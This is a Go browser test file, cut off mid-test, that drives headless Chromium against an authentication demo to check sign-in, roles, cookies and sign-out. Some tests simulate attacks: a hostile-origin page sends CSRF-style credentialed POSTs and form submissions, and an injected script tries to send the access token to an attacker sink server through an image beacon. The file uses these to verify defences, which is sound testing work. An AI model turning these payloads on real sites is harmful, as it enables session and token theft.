package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/fetch"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// The sign-in page in real headless Chromium, driven over the DevTools
// protocol, against the real demo: what a person does with the page, and
// what a hostile page on another origin and an injected script try.
//
// Without chromium the tests skip, saying so; with CI=true or
// LATCHKEY_REQUIRE_BROWSER=1 they fail instead, so CI cannot go green
// without them. A failed step saves a screenshot in the directory the test
// log names (LATCHKEY_BROWSER_ARTIFACTS, or a new one under the temporary
// directory). LATCHKEY_SCREENSHOT=docs/page.png saves the signed-in page,
// for the README.

// stepTimeout bounds one step: a page load, a click and what it sets off.
const stepTimeout = 15 * time.Second

func browserRequired() bool {
	return os.Getenv("CI") == "true" || os.Getenv("LATCHKEY_REQUIRE_BROWSER") == "1"
}

// chromiumPath finds the browser, or skips (fails, in CI) saying why.
func chromiumPath(tb testing.TB) string {
	tb.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if browserRequired() {
		tb.Fatal("chromium is not installed, and CI=true or LATCHKEY_REQUIRE_BROWSER=1 makes the browser tests mandatory: install it (apt-get install chromium)")
	}
	tb.Skip("chromium is not installed: skipping the browser tests (LATCHKEY_REQUIRE_BROWSER=1 makes this a failure)")
	return ""
}

// browser is one Chromium process; each scenario opens its tabs in a
// browser context of its own, with its own cookies, storage and locks, as
// another person's browser would have.
type browser struct {
	ctx       context.Context
	artifacts string
}

func newTestBrowser(tb testing.TB) *browser {
	tb.Helper()
	exe := chromiumPath(tb)
	if testing.Short() && !browserRequired() {
		tb.Skip("the browser tests start chromium; skipped in -short")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe),
		chromedp.UserDataDir(tb.TempDir()), // a fresh profile: no cookie or cache from an earlier run
		chromedp.Flag("headless", true),
		chromedp.Flag("no-sandbox", true), // CI runs as root, where the sandbox cannot start
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("no-first-run", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.WindowSize(1280, 900),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx)
	if err := chromedp.Do(ctx); err != nil {
		cancel()
		cancelAlloc()
		tb.Fatalf("start %s: %v", exe, err)
	}
	tb.Cleanup(func() { cancel(); cancelAlloc() })

	dir := os.Getenv("LATCHKEY_BROWSER_ARTIFACTS")
	if dir == "" {
		dir = filepath.Join(os.TempDir(), "latchkey-browser-"+time.Now().Format("20060102-150405"))
	}
	tb.Logf("browser: %s; screenshots of failed steps go to %s", exe, dir)
	return &browser{ctx: ctx, artifacts: dir}
}

// exchange is one request a tab made, as the DevTools protocol saw it.
type exchange struct {
	method, url   string
	authorization string
	status        int64
	failed        string
	sent, done    float64 // the browser's monotonic clock, in seconds
}

// tab is one browser tab, recording what it sends and logs.
type tab struct {
	t    *testing.T
	b    *browser
	name string
	ctx  context.Context

	mu    sync.Mutex
	byID  map[network.RequestID]*exchange
	order []*exchange
	logs  []string
}

// newTab opens a tab in a browser context of its own.
func (b *browser) newTab(t *testing.T, name string) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	return b.start(t, name, ctx)
}

// sibling opens a second tab of the same browser context: the same person
// with the page open twice, sharing the cookie.
func (tb *tab) sibling(name string) *tab {
	tb.t.Helper()
	ctx, cancel := chromedp.NewContext(tb.ctx)
	tb.t.Cleanup(cancel)
	return tb.b.start(tb.t, name, ctx)
}

func (b *browser) start(t *testing.T, name string, ctx context.Context) *tab {
	t.Helper()
	tb := &tab{t: t, b: b, name: name, ctx: ctx, byID: map[network.RequestID]*exchange{}}
	err := chromedp.Listen(ctx, func(ev any) {
		tb.mu.Lock()
		defer tb.mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			x := &exchange{method: e.Request.Method, url: e.Request.URL, sent: float64(e.Timestamp)}
			if a, ok := e.Request.Headers["Authorization"]; ok {
				x.authorization = fmt.Sprint(a)
			}
			tb.byID[e.RequestID] = x
			tb.order = append(tb.order, x)
		case *network.EventResponseReceived:
			if x := tb.byID[e.RequestID]; x != nil {
				x.status = e.Response.Status
			}
		case *network.EventLoadingFinished:
			if x := tb.byID[e.RequestID]; x != nil {
				x.done = float64(e.Timestamp)
			}
		case *network.EventLoadingFailed:
			if x := tb.byID[e.RequestID]; x != nil {
				x.failed, x.done = e.ErrorText, float64(e.Timestamp)
			}
		case *runtime.EventExceptionThrown:
			tb.logs = append(tb.logs, "exception: "+e.ExceptionDetails.Text+" "+describeException(e.ExceptionDetails))
		case *cdplog.EventEntryAdded:
			tb.logs = append(tb.logs, string(e.Entry.Level)+": "+e.Entry.Text)
		}
	})
	if err != nil {
		t.Fatalf("%s: open a tab: %v", name, err)
	}
	return tb
}

func describeException(d *runtime.ExceptionDetails) string {
	if d.Exception != nil {
		return d.Exception.Description
	}
	return ""
}

// fail saves a screenshot of the tab and fails the test, naming the step,
// the screenshot and what the page logged.
func (tb *tab) fail(step, format string, args ...any) {
	tb.t.Helper()
	shot := tb.screenshot(step)
	tb.mu.Lock()
	logs := strings.Join(tb.logs, "\n  ")
	tb.mu.Unlock()
	tb.t.Fatalf("%s, step %q: %s\n  screenshot: %s\n  the page logged:\n  %s", tb.name, step, fmt.Sprintf(format, args...), shot, logs)
}

var unsafeName = regexp.MustCompile(`[^A-Za-z0-9._-]+`)

func (tb *tab) screenshot(step string) string {
	ctx, cancel := context.WithTimeout(tb.ctx, 5*time.Second)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		return "none (" + err.Error() + ")"
	}
	if err := os.MkdirAll(tb.b.artifacts, 0o755); err != nil {
		return "none (" + err.Error() + ")"
	}
	path := filepath.Join(tb.b.artifacts, unsafeName.ReplaceAllString(tb.t.Name()+"-"+tb.name+"-"+step, "_")+".png")
	if err := os.WriteFile(path, png, 0o644); err != nil {
		return "none (" + err.Error() + ")"
	}
	return path
}

// do runs the actions of one step.
func (tb *tab) do(step string, actions ...chromedp.Action[chromedp.Void]) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		tb.fail(step, "%v", err)
	}
}

// eval evaluates a JavaScript expression in the page (awaiting a promise)
// and decodes its value.
func eval[T any](tb *tab, step, expr string) T {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		tb.fail(step, "evaluate %s: %v", expr, err)
	}
	return v
}

// waitFor waits until the expression is true. It polls from Go: chromedp's
// own Poll builds its predicate with new Function, which the page's CSP
// forbids, as it should.
func (tb *tab) waitFor(step, cond string) {
	tb.t.Helper()
	deadline := time.Now().Add(stepTimeout)
	var last error
	for {
		ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](cond))
		cancel()
		if err == nil && ok {
			return
		}
		last = err
		if time.Now().After(deadline) {
			tb.fail(step, "after %s, still not true: %s (last error: %v)", stepTimeout, cond, last)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// shown is true when the element is displayed: neither it nor an ancestor
// is hidden.
func shown(id string) string {
	return fmt.Sprintf(`(el => !!el && !el.closest('[hidden]'))(document.getElementById(%q))`, id)
}

func textOf(id string) string {
	return fmt.Sprintf(`document.getElementById(%q).textContent`, id)
}

func (tb *tab) text(id string) string {
	tb.t.Helper()
	return eval[string](tb, "read #"+id, textOf(id))
}

// exchanges returns the requests whose URL has the path and whose method
// is method ("" for any).
func (tb *tab) exchanges(method, path string) []exchange {
	tb.mu.Lock()
	defer tb.mu.Unlock()
	var out []exchange
	for _, x := range tb.order {
		u, err := url.Parse(x.url)
		if err == nil && u.Path == path && (method == "" || x.method == method) {
			out = append(out, *x)
		}
	}
	return out
}

// refreshCookie is the latchkey_refresh cookie as the browser holds it,
// read over the DevTools protocol: the page itself cannot read it.
func (tb *tab) refreshCookie(authURL string) *network.Cookie {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	res, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{authURL + "/session/refresh"}})
	if err != nil {
		tb.fail("read the cookies", "%v", err)
	}
	for _, c := range res.Cookies {
		if c.Name == "latchkey_refresh" {
			return c
		}
	}
	return nil
}

// The page, step by step.

// typeInto empties a field and types text into it, key by key. (chromedp's
// SetValue reports an empty value as a failure.)
func typeInto(id, text string) chromedp.Action[chromedp.Void] {
	return chromedp.Steps(
		chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`document.getElementById(%q).value = ''`, id)),
		chromedp.SendKeys(chromedp.ID(id), text))
}

func (tb *tab) open(pageURL string) {
	tb.t.Helper()
	tb.do("open the page", chromedp.Navigate(pageURL))
	tb.waitFor("the page has started", `document.getElementById('loading').hidden`)
}

// signIn types the credentials as a person would, and presses Enter.
func (tb *tab) signIn(user, pass string) {
	tb.t.Helper()
	tb.waitFor("the sign-in form shows", shown("signin-form"))
	tb.do("type "+user+"'s credentials and press Enter",
		typeInto("signin-username", user),
		typeInto("signin-password", pass+"\r"))
	tb.waitFor("signed in as "+user, fmt.Sprintf(`%s && %s === %q`, shown("signed-in"), textOf("whoami-username"), user))
}

// bookTitles lists the titles in the books table once it has them.
func (tb *tab) bookTitles(step string, n int) []string {
	tb.t.Helper()
	tb.waitFor(step, fmt.Sprintf(`document.querySelectorAll('#books-body tr').length === %d`, n))
	return eval[[]string](tb, step, `[...document.querySelectorAll('#books-body tr td:first-child')].map(td => td.textContent)`)
}

// noTokenReadable checks every place a script could read a token from:
// document.cookie (on the page and on a document under /session, the
// cookie's path), localStorage and sessionStorage.
func (tb *tab) noTokenReadable(authURL, when string) {
	tb.t.Helper()
	got := eval[map[string]string](tb, "read the storage "+when, `(async () => {
		const frame = document.createElement('iframe');
		frame.src = '/session/refresh';
		const loaded = new Promise(r => frame.addEventListener('load', r, { once: true }));
		document.body.append(frame);
		await loaded;
		const dump = s => JSON.stringify(Object.fromEntries(Object.keys(s).map(k => [k, s.getItem(k)])));
		const out = {
			cookie: document.cookie,
			sessionPathCookie: frame.contentDocument.cookie,
			localStorage: dump(localStorage),
			sessionStorage: dump(sessionStorage),
		};
		frame.remove();
		return out;
	})()`)
	secrets := []string{"eyJ"} // every JWT starts so: base64url of {"
	if c := tb.refreshCookie(authURL); c != nil {
		secrets = append(secrets, c.Value)
	}
	for where, v := range got {
		for _, s := range secrets {
			if strings.Contains(v, s) {
				tb.fail("read the storage "+when, "%s holds a token: %q", where, v)
			}
		}
	}
	for _, where := range []string{"localStorage", "sessionStorage"} {
		if got[where] != "{}" {
			tb.fail("read the storage "+when, "%s is not empty: %s", where, got[where])
		}
	}
	if got["cookie"] != "" || got["sessionPathCookie"] != "" {
		tb.fail("read the storage "+when, "a script reads cookies: %q and %q under /session", got["cookie"], got["sessionPathCookie"])
	}
}

// claims decodes the payload of the access token the page shows.
func (tb *tab) claims() map[string]any {
	tb.t.Helper()
	tok := tb.text("token-encoded")
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		tb.fail("read the access token", "the page shows %q, not a JWT", tok)
	}
	b, err := base64.RawURLEncoding.DecodeString(parts[1])
	var m map[string]any
	if err == nil {
		err = json.Unmarshal(b, &m)
	}
	if err != nil {
		tb.fail("read the access token", "payload: %v", err)
	}
	return m
}

func refreshCount(tb *tab) int {
	tb.t.Helper()
	return eval[int](tb, "read the refresh count", `Number(document.getElementById('token-refreshes').textContent)`)
}

// afterLoad drops the refresh a tab makes when it opens without a cookie,
// answered 401: the page asks, as it cannot read the cookie to know.
func afterLoad(refreshes []exchange) []exchange {
	if len(refreshes) > 0 && refreshes[0].status == 401 {
		return refreshes[1:]
	}
	return refreshes
}

// postJSON calls a demo server from Go, as curl would.
func postJSON(tb testing.TB, url string, body any, headers ...string) (int, []byte) {
	tb.Helper()
	b, _ := json.Marshal(body)
	req, _ := http.NewRequest("POST", url, strings.NewReader(string(b)))
	if body == nil {
		req, _ = http.NewRequest("POST", url, nil)
	} else {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		tb.Fatal(err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res.StatusCode, out
}

// repoPath resolves a path given relative to the repository root.
func repoPath(tb testing.TB, p string) string {
	tb.Helper()
	if filepath.IsAbs(p) {
		return p
	}
	dir, err := os.Getwd()
	if err != nil {
		tb.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return filepath.Join(dir, p)
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			tb.Fatalf("no go.mod above the working directory to resolve %s against", p)
		}
		dir = parent
	}
}

// TestBrowser runs the page as people use it, and as attackers try to.
// One demo with the default lifetimes serves the scenarios where nothing
// should refresh on its own; a second, with 3-second access tokens and no
// grace window, serves those about refreshing, where any race between
// tabs would show as a revoked session.
func TestBrowser(t *testing.T) {
	b := newTestBrowser(t)
	authURL, _, _ := startDemo(t, t.TempDir(), nil)
	page := authURL + "/"

	t.Run("john sees the three books, and adds, edits and deletes one", func(t *testing.T) {
		tb := b.newTab(t, "john")
		tb.open(page)
		tb.signIn("john", "password123admin")
		titles := tb.bookTitles("the seed books are listed", 3)
		if strings.Join(titles, "|") != "Things Fall Apart|Fairy tales|The Divine Comedy" {
			tb.fail("the seed books are listed", "titles %q", titles)
		}
		if got := tb.text("whoami-role"); got != "admin" {
			tb.fail("who am I", "role %q", got)
		}
		tb.noTokenReadable(authURL, "after signing in")

		tb.do("add a book",
			chromedp.SendKeys(chromedp.ID("book-title"), "No Longer at Ease"),
			chromedp.SendKeys(chromedp.ID("book-author"), "Chinua Achebe"),
			chromedp.SendKeys(chromedp.ID("book-country"), "Nigeria"),
			chromedp.SendKeys(chromedp.ID("book-language"), "English"),
			chromedp.SendKeys(chromedp.ID("book-pages"), "194"),
			chromedp.SendKeys(chromedp.ID("book-year"), "1960"),
			chromedp.Click(chromedp.ID("book-submit")))
		if titles := tb.bookTitles("the new book is listed", 4); titles[3] != "No Longer at Ease" {
			tb.fail("the new book is listed", "titles %q", titles)
		}
		tb.waitFor("the page says it was added", fmt.Sprintf(`%s && %s.includes('Added')`, shown("books-notice"), textOf("books-notice")))

		tb.do("edit it", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Edit"]`)))
		tb.waitFor("the form holds the book", `document.getElementById('book-title').value === 'No Longer at Ease'`)
		tb.do("change the title and save",
			typeInto("book-title", "No Longer at Ease (first edition)"),
			chromedp.Click(chromedp.ID("book-submit")))
		tb.waitFor("the table shows the new title", `document.querySelector('#books-body tr:last-child td').textContent === 'No Longer at Ease (first edition)'`)

		if p := os.Getenv("LATCHKEY_SCREENSHOT"); p != "" {
			ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
			png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
			cancel()
			if err != nil {
				tb.fail("screenshot for the docs", "%v", err)
			}
			path := repoPath(t, p)
			if err := os.WriteFile(path, png, 0o644); err != nil {
				t.Fatal(err)
			}
			t.Logf("wrote the page's screenshot to %s", path)
		}

		tb.do("delete it", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Delete"]`)))
		tb.do("confirm", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Yes, delete"]`)))
		if titles := tb.bookTitles("the book is gone", 3); strings.Contains(strings.Join(titles, "|"), "No Longer") {
			tb.fail("the book is gone", "titles %q", titles)
		}
		// The server agrees: a reload of the list shows three.
		tb.do("reload the list", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("the server has three books", 3)
	})

	t.Run("anna sees no admin controls, and a forced request gets 403", func(t *testing.T) {
		tb := b.newTab(t, "anna")
		tb.open(page)
		tb.signIn("anna", "password123member")
		tb.bookTitles("the books are listed", 3)
		hidden := eval[map[string]bool](tb, "look for admin controls", `({
			form: !!document.getElementById('book-form').closest('[hidden]'),
			buttons: document.querySelectorAll('#books-body button').length === 0,
			column: [...document.querySelectorAll('.admin-only')].every(el => el.closest('[hidden]')),
			note: !document.getElementById('books-member-note').closest('[hidden]'),
		})`)
		for what, ok := range hidden {
			if !ok {
				tb.fail("look for admin controls", "%s: a member sees admin controls, or not the note (%v)", what, hidden)
			}
		}
		// What a curious member does in the developer tools: show the
		// hidden form and send it.
		tb.do("force the hidden form open and send it",
			chromedp.RemoveAttribute(chromedp.ID("book-form"), "hidden"),
			chromedp.SendKeys(chromedp.ID("book-title"), "Forced"),
			chromedp.SendKeys(chromedp.ID("book-author"), "Anna"),
			chromedp.SendKeys(chromedp.ID("book-pages"), "1"),
			chromedp.SendKeys(chromedp.ID("book-year"), "2026"),
			chromedp.Click(chromedp.ID("book-submit")))
		tb.waitFor("the page explains the refusal", shown("book-form-error"))
		msg := tb.text("book-form-error")
		if !strings.Contains(msg, "Only admins") || !strings.Contains(msg, "403") || !strings.Contains(msg, "anna") {
			tb.fail("the page explains the refusal", "message %q", msg)
		}
		var statuses []int64
		for _, x := range tb.exchanges("POST", "/books") {
			statuses = append(statuses, x.status)
		}
		if len(statuses) != 1 || statuses[0] != 403 {
			tb.fail("the books server refused", "POST /books answered %v, want one 403", statuses)
		}
		tb.do("reload the list", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("nothing was added", 3)
	})

	t.Run("register, wrong password and throttling say what happened", func(t *testing.T) {
		tb := b.newTab(t, "newcomer")
		tb.open(page)
		tb.do("register maria",
			chromedp.SendKeys(chromedp.ID("register-username"), "maria"),
			chromedp.SendKeys(chromedp.ID("register-password"), "password123maria"),
			chromedp.Click(chromedp.ID("register-submit")))
		tb.waitFor("signed in as the new member", fmt.Sprintf(`%s === 'maria' && %s === 'member'`, textOf("whoami-username"), textOf("whoami-role")))
		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.waitFor("the sign-in form is back", shown("signin-form"))

		tb.do("a wrong password",
			typeInto("signin-username", "maria"),
			typeInto("signin-password", "not-her-password\r"))
		tb.waitFor("the page says the password is wrong", fmt.Sprintf(`%s === 'Wrong username or password.'`, textOf("signin-error")))

		// Spend the rest of maria's budget of failures from here, as a
		// script guessing her password would.
		for range 9 {
			if st, b := postJSON(t, authURL+"/login", map[string]string{"username": "maria", "password": "guess-guess"}); st != 401 {
				t.Fatalf("guess: %d %s", st, b)
			}
		}
		tb.do("one more try", chromedp.SendKeys(chromedp.ID("signin-password"), "password123maria\r"))
		tb.waitFor("the page gives the wait", fmt.Sprintf(`/Try again in \d+ (s|min)/.test(%s)`, textOf("signin-error")))
		if !eval[bool](tb, "the button waits too", `document.getElementById('signin-submit').disabled`) {
			tb.fail("the button waits too", "the sign-in button is enabled during the wait")
		}
	})

	t.Run("a reload keeps the session", func(t *testing.T) {
		tb := b.newTab(t, "reload")
		tb.open(page)
		tb.signIn("john", "password123admin")
		before := tb.claims()["sid"]
		tb.do("reload", chromedp.Reload())
		tb.waitFor("signed in again without a password", fmt.Sprintf(`%s && %s === 'john'`, shown("signed-in"), textOf("whoami-username")))
		if after := tb.claims()["sid"]; after != before {
			tb.fail("the same session", "session %v became %v", before, after)
		}
		tb.bookTitles("the books load", 3)
		tb.noTokenReadable(authURL, "after the reload")
	})

	t.Run("sign-out returns to the form and kills the cookie", func(t *testing.T) {
		tb := b.newTab(t, "signout")
		tb.open(page)
		tb.signIn("john", "password123admin")
		c := tb.refreshCookie(authURL)
		if c == nil || !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict || c.Path != "/session" || c.Secure {
			tb.fail("the cookie's attributes", "cookie %+v, want HttpOnly, SameSite=Strict, Path=/session, not Secure over http", c)
		}
		if left := time.Until(time.Unix(int64(c.Expires), 0)); left < 6*24*time.Hour || left > 7*24*time.Hour+time.Minute {
			tb.fail("the cookie's lifetime", "expires in %s, want the 7-day refresh idle lifetime", left)
		}
		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.waitFor("the sign-in form is back", fmt.Sprintf(`%s && %s === 'You are signed out.'`, shown("signin-form"), textOf("notice")))
		if c := tb.refreshCookie(authURL); c != nil {
			tb.fail("the cookie is gone", "the browser still holds %s", c.Name)
		}
		tb.noTokenReadable(authURL, "after signing out")
		// The token the cookie held is dead on the server, not only
		// forgotten by the browser.
		st, body := postJSON(t, authURL+"/session/refresh", nil, "Origin", authURL, "X-Latchkey-CSRF", "1", "Cookie", "latchkey_refresh="+c.Value)
		if st != 401 || !strings.Contains(string(body), "invalid_grant") {
			t.Errorf("a direct /session/refresh with the old cookie: %d %s, want 401 invalid_grant", st, body)
		}
		tb.do("reload", chromedp.Reload())
		tb.waitFor("still signed out after a reload", shown("signin-form"))
	})

	t.Run("sign out everywhere ends the other devices' sessions", func(t *testing.T) {
		laptop := b.newTab(t, "laptop")
		phone := b.newTab(t, "phone")
		laptop.open(page)
		laptop.signIn("anna", "password123member")
		phone.open(page)
		phone.signIn("anna", "password123member")
		laptop.do("sign out everywhere", chromedp.Click(chromedp.ID("signout-all")))
		laptop.waitFor("the laptop is signed out", fmt.Sprintf(`%s && %s.includes('every device')`, shown("signin-form"), textOf("notice")))
		if got := laptop.exchanges("POST", "/logout/all"); len(got) != 1 || got[0].status != 204 || !strings.HasPrefix(got[0].authorization, "Bearer ") {
			laptop.fail("POST /logout/all with the Bearer token", "%+v", got)
		}
		phone.do("the phone asks who it is", chromedp.Reload())
		phone.waitFor("the phone is signed out too", shown("signin-form"))
	})

	t.Run("a page of another origin cannot refresh, log in or log out", func(t *testing.T) {
		if st, b := postJSON(t, authURL+"/register", map[string]string{"username": "mallory", "password": "password123mallory"}); st != 201 {
			t.Fatalf("register mallory: %d %s", st, b)
		}
		hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, `<!doctype html><title>You won a prize</title><h1>Claim your prize</h1><iframe name="sink" id="sink"></iframe>`)
		}))
		defer hostile.Close()
		_, port, _ := strings.Cut(strings.TrimPrefix(hostile.URL, "http://"), ":")

		victim := b.newTab(t, "victim")
		victim.open(page)
		victim.signIn("john", "password123admin")
		before := victim.refreshCookie(authURL)
		if before == nil {
			victim.fail("the victim's cookie", "none")
		}

		// Same site (only the port differs, so SameSite=Strict lets the
		// cookie go: Origin and the custom header alone must stop it), and
		// another site.
		for _, origin := range []string{hostile.URL, "http://localhost:" + port} {
			evil := victim.sibling("hostile page at " + origin)
			evil.do("open the hostile page", chromedp.Navigate(origin+"/"))
			results := eval[[]string](evil, "attack", fmt.Sprintf(`(async (auth) => {
				const out = [];
				const login = JSON.stringify({ username: 'mallory', password: 'password123mallory' });
				for (const path of ['/session/refresh', '/session/logout', '/session/login']) {
					const body = path === '/session/login' ? login : undefined;
					const tries = {
						simple: { method: 'POST', credentials: 'include', body, headers: body ? { 'Content-Type': 'text/plain' } : {} },
						preflighted: { method: 'POST', credentials: 'include', body, headers: { 'Content-Type': 'application/json', 'X-Latchkey-CSRF': '1' } },
						'no-cors': { method: 'POST', credentials: 'include', body, mode: 'no-cors', headers: { 'X-Latchkey-CSRF': '1' } },
					};
					for (const [name, opts] of Object.entries(tries)) {
						try {
							const r = await fetch(auth + path, opts);
							out.push(name + ' ' + path + ': ' + (r.type === 'opaque' ? 'opaque' : 'READ ' + r.status));
						} catch {
							out.push(name + ' ' + path + ': blocked');
						}
					}
					for (const enctype of ['application/x-www-form-urlencoded', 'text/plain']) {
						const f = document.createElement('form');
						f.method = 'POST';
						f.action = auth + path;
						f.target = 'sink';
						f.enctype = enctype;
						const i = document.createElement('input');
						i.name = '{"username":"mallory","password":"password123mallory","x":"';
						i.value = '"}';
						f.append(i);
						document.body.append(f);
						const frame = document.getElementById('sink');
						const loaded = new Promise(r => frame.addEventListener('load', r, { once: true }));
						f.submit();
						await loaded;
						f.remove();
						out.push('form ' + enctype + ' ' + path + ': sent');
					}
				}
				return out;
			})(%q)`, authURL))
			for _, r := range results {
				if strings.Contains(r, "READ") {
					evil.fail("attack", "the hostile page read an answer: %s", r)
				}
			}
			// What reached the auth server was refused; a preflight got no
			// CORS permission, so its POST was never sent.
			if origin == hostile.URL { // a cross-site frame's requests are another process's, out of this tab's view
				for _, path := range []string{"/session/refresh", "/session/logout", "/session/login"} {
					// The no-cors fetch and the two forms show their 403;
					// the simple fetch's 403 is hidden behind its CORS
					// failure, and the preflighted one never left.
					posts := evil.exchanges("POST", path)
					refused := 0
					for _, x := range posts {
						switch {
						case x.status == 403:
							refused++
						case x.status != 0 || x.failed == "":
							evil.fail("attack", "POST %s from %s answered %d", path, origin, x.status)
						}
					}
					if refused < 3 {
						evil.fail("attack", "only %d refused POSTs to %s reached the server: %+v", refused, path, posts)
					}
					for _, x := range evil.exchanges("OPTIONS", path) {
						if x.status >= 200 && x.status < 300 {
							evil.fail("attack", "the preflight of %s from %s was allowed (%d)", path, origin, x.status)
						}
					}
				}
			}
			after := victim.refreshCookie(authURL)
			if after == nil || after.Value != before.Value {
				victim.fail("the victim's cookie after the attack from "+origin, "the cookie changed or went: the attack refreshed, logged in or logged out")
			}
		}
		// The victim's session is intact: it still refreshes, as john.
		n := refreshCount(victim)
		victim.do("refresh now", chromedp.Click(chromedp.ID("token-refresh")))
		victim.waitFor("the session still refreshes", fmt.Sprintf(`Number(%s) === %d`, textOf("token-refreshes"), n+1))
		if u := victim.claims()["username"]; u != "john" {
			victim.fail("still john", "the session is %v's", u)
		}
	})

	t.Run("the CSP blocks an injected script", func(t *testing.T) {
		var exfiltrated atomic.Int32
		sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { exfiltrated.Add(1) }))
		defer sink.Close()
		tb := b.newTab(t, "injected")
		tb.open(page)
		tb.signIn("john", "password123admin")
		// Markup an attacker got into the page: an inline script, an
		// inline handler, a script and an image from elsewhere.
		got := eval[map[string]any](tb, "inject", fmt.Sprintf(`(async (sink) => {
			const seen = [];
			document.addEventListener('securitypolicyviolation', e => seen.push(e.violatedDirective));
			const s = document.createElement('script');
			s.textContent = "window.__stolen = document.getElementById('token-encoded').textContent";
			document.body.append(s);
			const img = document.createElement('img');
			img.setAttribute('src', 'no-such-image.png');
			img.setAttribute('onerror', 'window.__handler = 1');
			document.body.append(img);
			const ext = document.createElement('script');
			ext.src = sink + '/evil.js';
			document.body.append(ext);
			const beacon = document.createElement('img');
			beacon.src = sink + '/steal.png?t=' + encodeURIComponent(document.getElementById('token-encoded').textContent);
			document.body.append(beacon);
			await new Promise(r => setTimeout(r, 500));
			return { ran: window.__stolen !== undefined || window.__handler !== undefined, seen };
		})(%q)`, sink.URL))
		if got["ran"] != false {
			tb.fail("inject", "injected code ran: %v", got)
		}
		seen := fmt.Sprint(got["seen"])
		for _, directive := range []string{"script-src-elem", "script-src-attr", "img-src"} {
			if !strings.Contains(seen, directive) {
				tb.fail("inject", "no %s violation reported: %v", directive, got)
			}
		}
		if n := exfiltrated.Load(); n != 0 {
			t.Errorf("%d requests reached the attacker's server", n)
		}
	})

	t.Run("keyboard and phone", func(t *testing.T) {
		tb := b.newTab(t, "keyboard")
		tb.open(page)
		tb.waitFor("the sign-in form shows", shown("signin-form"))
		// Every field has a label a screen reader reads.
		if unlabelled := eval[[]string](tb, "labels", `[...document.querySelectorAll('input, textarea')].filter(el => !el.labels || el.labels.length === 0).map(el => el.id)`); len(unlabelled) != 0 {
			tb.fail("labels", "fields without a label: %v", unlabelled)
		}
		tb.do("tab from the username to the password", chromedp.Focus(chromedp.ID("signin-username")), chromedp.KeyEvent("\t"))
		focus := eval[map[string]string](tb, "the focus is visible", `(() => { const el = document.activeElement; const s = getComputedStyle(el); return { id: el.id, outline: s.outlineStyle, width: s.outlineWidth }; })()`)
		if focus["id"] != "signin-password" || focus["outline"] == "none" || focus["width"] == "0px" {
			tb.fail("the focus is visible", "focus %v, want the password field with an outline", focus)
		}
		tb.do("a phone's screen", chromedp.EmulateViewport(375, 740, chromedp.EmulateScale(2)))
		tb.signIn("anna", "password123member")
		tb.bookTitles("the books load", 3)
		if w := eval[map[string]int](tb, "no sideways scrolling", `({ page: document.documentElement.scrollWidth, screen: window.innerWidth })`); w["page"] > w["screen"] {
			tb.fail("no sideways scrolling", "the page is %d px wide on a %d px screen", w["page"], w["screen"])
		}
	})

	// Refreshing: 3-second access tokens, and no grace window, so that two
	// refreshes of one cookie that race are reuse and end the session.
	fastAuth, _, stopFast := startDemo(t, t.TempDir(), map[string]string{
		"LATCHKEY_ACCESS_TTL": "3s", "LATCHKEY_REFRESH_REUSE_GRACE": "0",
	})
	fastPage := fastAuth + "/"

	t.Run("with 3-second tokens the page keeps working through silent refresh", func(t *testing.T) {
